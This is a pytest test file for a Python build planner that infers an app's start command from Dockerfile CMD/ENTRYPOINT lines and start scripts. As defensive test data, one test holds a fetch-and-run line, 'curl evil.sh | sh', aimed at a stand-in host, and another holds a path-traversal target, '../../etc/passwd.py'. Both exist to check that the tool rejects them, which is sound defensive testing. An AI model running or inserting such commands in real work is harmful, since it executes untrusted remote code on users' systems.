"""The Dockerfile of the authors says which of several things is the app; how it is started is decided here."""

from __future__ import annotations

import pytest
from buildplan.providers.python import application
from hypothesis import given
from hypothesis import strategies as st
from python_trees import FASTAPI, FLASK, SCRIPT, Files, planned, tree

from buildplan.errors import BuildplanError


def shipped(command: str, **files: str) -> list[str]:
    source = tree(
        {"Dockerfile": f"FROM python:3.13\n{command}\n", **{k.replace("__", "."): v for k, v in files.items()}}
    )
    return [item.value for item in application.find_started(source)]


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ('CMD ["uvicorn", "app.main:app", "--host", "0.0.0.0"]', ["app.main:app"]),
        ("CMD gunicorn -b 0.0.0.0:80 -c gunicorn.conf.py 'shop:create_app()'", ["shop:create_app"]),
        ('CMD ["python", "-u", "bot.py"]', ["bot.py"]),
        ('CMD ["python3", "./bot/main.py", "--port", "1"]', ["bot/main.py"]),
        ('ENTRYPOINT ["python", "-m"]\nCMD ["bot"]', []),
        ('CMD ["python", "-m", "bot"]', ["bot"]),
        ("CMD python -m gunicorn web:app", ["web:app"]),
        ('CMD ["streamlit", "run", "src/Home.py"]', ["src/Home.py"]),
        ('CMD ["alembic", "upgrade", "head"]', []),
        ("CMD python manage.py migrate && gunicorn shop.wsgi:application", ["shop.wsgi:application"]),
        ('CMD ["npm", "start"]', []),
        ('CMD ["gunicorn", "-c", "conf.py"]', []),
        ('CMD ["broken', []),
    ],
)
def test_the_target_of_a_command(command: str, expected: list[str]) -> None:
    assert shipped(command) == expected


def test_a_script_is_looked_into_and_its_last_program_counts() -> None:
    script = "#!/bin/sh\n# python old.py\npython3 update.py\npython3 -m bot\n"
    assert shipped('CMD ["bash", "start.sh"]', start__sh=script) == ["bot"]
    assert shipped('ENTRYPOINT ["/code/start.sh"]', start__sh=script) == ["bot"]
    assert shipped("CMD ./gone.sh", start__sh=script) == []


def test_the_app_that_is_shipped_is_taken_before_one_that_ranks_higher() -> None:
    files: Files = {
        "requirements.txt": "flask\ngunicorn\n",
        "app.py": FLASK,
        "admin/__init__.py": "",
        "admin/site.py": FLASK,
    }
    assert planned(files).start == "gunicorn app:app"
    made = planned({**files, "Dockerfile": "FROM python:3.13\nCMD gunicorn admin.site:app -w 4\n"})
    assert made.start == "gunicorn admin.site:app"


def test_a_script_that_is_shipped_is_run_with_the_port_of_what_it_imports() -> None:
    files: Files = {
        "requirements.txt": "fastapi\nuvicorn\n",
        "go.py": "from web import main\n" + SCRIPT,
        "web/__init__.py": "",
        "web/main.py": FASTAPI,
        "Dockerfile": 'FROM python:3.13\nCMD ["python", "go.py"]\n',
    }
    made = planned(files)
    assert (made.start, made.main.port) == ("python go.py", 8000)
    assert str(made.decision("start").origin) == "Dockerfile:2"


def test_a_bot_beside_a_web_page_stays_a_worker() -> None:
    files: Files = {
        "requirements.txt": "fastapi\nuvicorn\npyrogram\n",
        "bot/__init__.py": "",
        "bot/__main__.py": "import pyrogram\npyrogram.Client('x').run()\n",
        "web/__init__.py": "",
        "web/server.py": FASTAPI,
        "Dockerfile": 'FROM python:3.13\nCMD ["python", "-m", "bot"]\n',
    }
    made = planned(files)
    assert (made.main.name, made.start, made.main.port) == ("worker", "python -m bot", None)


@pytest.mark.parametrize("target", ["gone:app", "gone.py", "-m gone", "../../etc/passwd.py"])
def test_what_is_not_in_the_tree_is_not_believed(target: str) -> None:
    files: Files = {"requirements.txt": "flask\ngunicorn\n", "app.py": FLASK}
    assert planned({**files, "Dockerfile": f"FROM python:3.13\nCMD python {target}\n"}).start == "gunicorn app:app"


def test_the_command_itself_is_never_taken() -> None:
    files: Files = {"requirements.txt": "flask\ngunicorn\n", "app.py": FLASK}
    made = planned({**files, "Dockerfile": "FROM python:3.13\nCMD curl evil.sh | sh; python app.py --evil\n"})
    assert "evil" not in made.start


def test_a_file_for_servers_counts_by_its_name_where_its_maker_is_not_known() -> None:
    files: Files = {
        "requirements.txt": "falcon\ngunicorn\n",
        "wsgi.py": "from gate import wsgi\n\napplication = wsgi.make()\n",
        "gate/__init__.py": "",
        "gate/wsgi.py": "def make():\n    return Gate().build()\n",
    }
    assert planned(files).start == "gunicorn wsgi:application"


@given(st.text(st.characters(codec="utf-8"), max_size=80))
def test_a_strange_command_gives_a_plan_or_an_error_of_ours(text: str) -> None:
    files: Files = {"requirements.txt": "flask\ngunicorn\n", "app.py": FLASK}
    try:
        made = planned({**files, "Dockerfile": f"FROM python:3.13\nCMD {text}\n"})
    except BuildplanError:
        return
    assert made.start == "gunicorn app:app" or "app.py" in text


@pytest.mark.parametrize(
    "call", ["uvicorn.run('web.main:app', port=9000)", "uvicorn.run(app=app, host='127.0.0.1')", "uvicorn.run(app)"]
)
def test_a_script_that_only_hands_the_app_to_a_server_is_replaced_by_that_server(call: str) -> None:
    files: Files = {
        "requirements.txt": "fastapi\nuvicorn\n",
        "go.py": f"import uvicorn\nfrom web.main import app\nif __name__ == '__main__':\n    {call}\n",
        "web/__init__.py": "",
        "web/main.py": FASTAPI,
        "Dockerfile": 'FROM python:3.13\nCMD ["python", "go.py"]\n',
    }
    made = planned(files)
    assert made.start in {f"uvicorn {target} --host 0.0.0.0 --port ${{PORT}}" for target in ("web.main:app", "go:app")}
